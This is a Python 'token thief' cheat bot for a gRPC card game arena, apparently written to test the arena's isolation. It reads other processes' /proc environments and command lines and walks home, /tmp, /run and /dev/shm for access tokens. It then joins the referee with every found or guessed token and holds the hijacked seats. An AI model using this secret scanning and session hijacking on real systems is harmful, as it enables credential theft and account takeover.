#!/usr/bin/env python3
"""Cheat bot ``token thief``: looks for the other bots' tokens and joins with every token it finds or guesses.

Where it looks: every process in /proc (environment: ``ARENA_TOKEN=``; command line: ``--token``), its own
environment, and the files of its working directory, its own folder, ``$HOME``, /tmp, /run and /dev/shm. Then it
opens a stream for each token found (other than its own) and for a dozen guesses (empty, its own token altered,
random ones), all at once, and notes what the referee answers. A stream that is welcomed is held open, silent, to
the end (a stolen seat), and the seat is stolen again if its own bot, still starting when it was stolen, takes it
back. It looks in /proc first and tries what it found there at once (line ``THIEF-PROC
{json}``), then in the files and with the guesses (line ``THIEF-START {json}``). Then it plays its own seat
honestly (check, else call) and at the match's end prints one line ``THIEF {json}``.
"""

from __future__ import annotations

import json
import os
import queue
import re
import secrets
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import grpc

from arena_sdk import Action, Bot, Request, call, check, run
from arena_sdk.pb import bot_pb2

OWN = os.environ.get("ARENA_TOKEN", "")
ADDRESS = os.environ.get("ARENA_ADDRESS", "")
PATTERNS = [re.compile(rb"ARENA_TOKEN=([A-Za-z0-9_-]{20,})"), re.compile(rb"--token[= \x00]([A-Za-z0-9_-]{20,})")]
HOLD: list[Any] = []  # stolen streams, kept open


def scan(data: bytes, where: str, found: dict[str, str]) -> None:
    for pattern in PATTERNS:
        for match in pattern.finditer(data):
            token = match.group(1).decode()
            if token != OWN:
                found.setdefault(token, where)


def search_processes() -> tuple[dict[str, str], list[str]]:
    """Tokens in the other processes' environments and command lines; and the pids it could look into."""
    found: dict[str, str] = {}
    pids = sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int)
    for pid in pids:
        for part in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as f:
                    scan(f.read(), f"/proc/{pid}/{part}", found)
            except OSError:
                pass
    for key, value in os.environ.items():
        scan(f"{key}={value}".encode(), "own environment", found)
    return found, pids


def search_files() -> dict[str, str]:
    """Tokens in the files it can reach (slow where there is no sandbox: bounded by a budget of files)."""
    found: dict[str, str] = {}
    folders = {os.getcwd(), str(Path(__file__).resolve().parent), os.environ.get("HOME", "/tmp"), "/tmp", "/run",
               "/dev/shm"}
    budget = 20_000  # files: enough for everything a sandbox holds there; bounded where there is no sandbox
    for folder in sorted(folders):
        for root, _dirs, files in os.walk(folder):
            budget -= len(files)
            if budget < 0:
                break
            for name in files:
                path = os.path.join(root, name)
                try:
                    if os.path.getsize(path) <= 1 << 20:
                        with open(path, "rb") as f:
                            scan(f.read(), path, found)
                except OSError:
                    pass
    return found


def try_join(token: str, again: int = 3) -> str:
    """Join with ``token``; what the referee answered (a welcome is a stolen seat, held open, and stolen ``again``
    times more if the seat's own bot joins after the theft and takes it back)."""
    outbox: queue.SimpleQueue[bytes | None] = queue.SimpleQueue()
    outbox.put(bot_pb2.BotMessage(join=bot_pb2.Join(token=token, bot_name="thief", protocol_version=1))
               .SerializeToString())

    def requests() -> Iterator[bytes]:
        while (item := outbox.get()) is not None:
            yield item

    channel = grpc.insecure_channel(ADDRESS)
    call_ = channel.stream_stream("/arena.v1.BotService/Play", request_serializer=lambda b: b,
                                  response_deserializer=bot_pb2.RefereeMessage.FromString)
    responses = call_(requests(), timeout=60)
    try:
        first = next(iter(responses))
    except grpc.RpcError as exc:
        return f"refused: {exc.code()}"
    except StopIteration:
        return "refused: stream ended"
    kind = first.WhichOneof("msg")
    if kind == "welcome":
        HOLD.append((channel, responses, outbox))
        threading.Thread(target=hold, args=(responses, token, again), daemon=True).start()
        return "welcome"
    if kind == "error":
        return f"refused: {bot_pb2.ErrorCode.Name(first.error.code)}"
    return f"answered {kind}"


def hold(responses: Iterator[bot_pb2.RefereeMessage], token: str, again: int) -> None:
    """Read a stolen stream, never answering; if the seat's own bot joined after the theft (it was still starting)
    and took the seat back, steal it again."""
    replaced = False
    try:
        for message in responses:
            replaced = replaced or (message.WhichOneof("msg") == "error"
                                    and message.error.code == bot_pb2.ERROR_CODE_BAD_TOKEN)
    except grpc.RpcError:
        pass
    if replaced and again > 0:
        try_join(token, again - 1)


def guesses() -> list[str]:
    altered = [OWN[:-1] + ("A" if OWN[-1:] != "A" else "B"), OWN[::-1], OWN.upper(), OWN[:22]]
    return ["", "0" * 43, *altered, *(secrets.token_urlsafe(32) for _ in range(6))]


def steal(tokens: list[tuple[str, str]]) -> dict[str, str]:
    """Join with every token at once; what the referee answered to each, by label."""
    attempts: dict[str, str] = {}
    lock = threading.Lock()

    def attempt(label: str, token: str) -> None:
        outcome = try_join(token)
        with lock:
            attempts[label] = outcome

    threads = [threading.Thread(target=attempt, args=item) for item in tokens]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    return attempts


def stolen(attempts: dict[str, str]) -> int:
    return sum(1 for outcome in attempts.values() if outcome == "welcome")


class TokenThief(Bot):
    """Plays its own seat honestly once the theft is over."""

    def __init__(self) -> None:
        found, pids = search_processes()
        for _ in range(4):  # the other bots may still be starting: look again a few times before giving up
            if found:
                break
            time.sleep(0.5)
            found, pids = search_processes()
        attempts = steal([(f"found {where}", token) for token, where in found.items()])
        # reported at once: the lane may end (its victim gone) before the slower search of the files is over
        print("THIEF-PROC " + json.dumps({"found": sorted(found.values()), "stolen": stolen(attempts)}), flush=True)
        in_files = {token: where for token, where in search_files().items() if token not in found}
        found.update(in_files)
        tokens = [(f"found {where}", token) for token, where in in_files.items()]
        attempts.update(steal(tokens + [(f"guess {i}", token) for i, token in enumerate(guesses())]))
        self.report = {"uid": os.getuid(), "pids": pids, "found": sorted(found.values()), "attempts": attempts,
                       "stolen": stolen(attempts)}
        print("THIEF-START " + json.dumps(self.report), flush=True)

    def act(self, request: Request) -> Action:
        return check() if request.legal.can_check else call()

    def on_match_end(self, msg: bot_pb2.MatchEnd) -> None:
        print("THIEF " + json.dumps(self.report), flush=True)


if __name__ == "__main__":
    raise SystemExit(run(TokenThief(), name="token-thief", version="1").exit_code)
